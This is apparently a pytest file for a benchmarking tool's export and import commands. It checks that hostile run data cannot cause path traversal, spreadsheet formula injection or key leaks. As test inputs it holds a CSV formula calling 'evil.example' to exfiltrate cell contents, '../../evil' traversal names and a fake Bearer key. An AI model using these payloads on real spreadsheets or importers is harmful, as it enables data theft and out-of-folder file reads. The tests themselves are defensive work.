"""`servingbench export` on a run folder whose names and texts came from elsewhere (an
imported peer file): a step named `..` stays inside --out, and a CSV cell never becomes a
spreadsheet formula or carries a key."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
from servingbench.pipelines.cli import main as cli

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
KEY = "sk-live-0123456789abcdefghijklmnop"


def _run(tmp_path: Path, step: str = "c=2", errors: dict[int, str] | None = None) -> Path:
    run = tmp_path / "run"
    shutil.copytree(FIXTURES / "good", run)
    m = json.loads((run / "manifest.json").read_text())
    m["steps"][0]["step"] = step
    (run / "manifest.json").write_text(json.dumps(m))
    for name in ("steady_state_request_log", "warmup_log"):
        path = run / f"{name}.parquet"
        t = pq.read_table(path)
        t = t.set_column(t.schema.get_field_index("step"), t.schema.field("step"),
                         pa.array([step] * t.num_rows, t.schema.field("step").type))
        if name.startswith("steady") and errors:
            col = t.column("error").to_pylist()
            for i, text in errors.items():
                col[i] = text
            t = t.set_column(t.schema.get_field_index("error"), t.schema.field("error"),
                             pa.array(col, t.schema.field("error").type))
        pq.write_table(t, path)
    return run


def test_a_step_named_dot_dot_is_exported_inside_out(tmp_path):
    run = _run(tmp_path, step="..")
    out = tmp_path / "deep" / "out"
    assert cli(["export", str(run), "--format", "aiperf", "--out", str(out)]) == 0
    folders = [p for p in out.iterdir() if p.is_dir()]
    assert len(folders) == 1 and folders[0].parent == out and folders[0].name not in (".", "..")
    assert (folders[0] / "profile_export.jsonl").is_file()
    assert not (tmp_path / "deep" / "profile_export.jsonl").exists()


def test_csv_cells_are_never_formulas_and_error_texts_are_redacted(tmp_path):
    run = _run(tmp_path, errors={  # the fixture's three requests
        0: '=HYPERLINK("http://evil.example/?"&A1,"x")', 1: "@SUM(A1:A9)",
        2: f"-2 upstream said Authorization: Bearer {KEY}"})
    out = tmp_path / "run.csv"
    assert cli(["export", str(run), "--format", "csv", "--out", str(out)]) == 0
    text = out.read_text()
    assert KEY not in text
    rows = list(csv.DictReader(text.splitlines()))
    errors = [r["error"] for r in rows if r["error"]]
    assert len(errors) == 3
    for cell in errors:
        assert cell[0] not in "=+-@\t\r", cell
    assert errors[0] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"x")'
    # numbers stay numbers: a negative value is data, not a formula
    assert all(r["ttft_s"] == "" or float(r["ttft_s"]) >= 0 for r in rows)


def test_an_aiperf_phase_name_never_opens_a_path_outside_the_folder(tmp_path):
    """A phase's name comes from the file: `../../evil` must not make the importer read
    `phases/../../evil/profile_export_aiperf.json`, a file outside the results folder."""
    run = _run(tmp_path)
    art = tmp_path / "art"
    assert cli(["export", str(run), "--format", "aiperf", "--out", str(art)]) == 0
    folder = next(p for p in art.iterdir())
    evil = "../../evil"
    summary = folder / "profile_export_aiperf.json"
    summary.write_text(summary.read_text().replace('"profiling"', json.dumps(evil)))
    records = folder / "profile_export.jsonl"
    records.write_text(records.read_text().replace('"profiling"', json.dumps(evil)))
    (folder / "phases").mkdir()
    planted = folder / "phases" / evil / "profile_export_aiperf.json"
    planted.parent.mkdir(parents=True)
    planted.write_text(json.dumps({"request_count": {"unit": "requests", "avg": 999.0}}))
    assert planted.resolve().is_relative_to(art) and not planted.resolve().is_relative_to(folder)
    out = tmp_path / "imported"
    assert cli(["import", "aiperf", str(folder), "--out", str(out)]) == 0
    assert "999" not in (out / "manifest.json").read_text()


def test_an_imported_peers_error_text_is_redacted_as_our_own(tmp_path):
    """A peer keeps the server's error as it came (vLLM: the whole traceback's last line),
    and a server may echo the request's key: the imported request log holds it redacted
    with the patterns our own error texts go through."""
    src = FIXTURES / "peers" / "vllm_bench_serve_0.33.0.json"
    doc = json.loads(src.read_text())
    i = next(k for k, e in enumerate(doc["errors"]) if e)  # the fixture's failed request
    doc["errors"][i] = f"Traceback ...\nupstream 401: Authorization: Bearer {KEY} refused"
    peer = tmp_path / "bench.json"
    peer.write_text(json.dumps(doc))
    out = tmp_path / "run"
    assert cli(["import", "vllm", str(peer), "--out", str(out)]) == 0
    errors = [e for e in pq.read_table(out / "steady_state_request_log.parquet")
              .column("error").to_pylist() if e]
    assert errors and all(KEY not in e for e in errors)
    assert any("[REDACTED]" in e for e in errors)
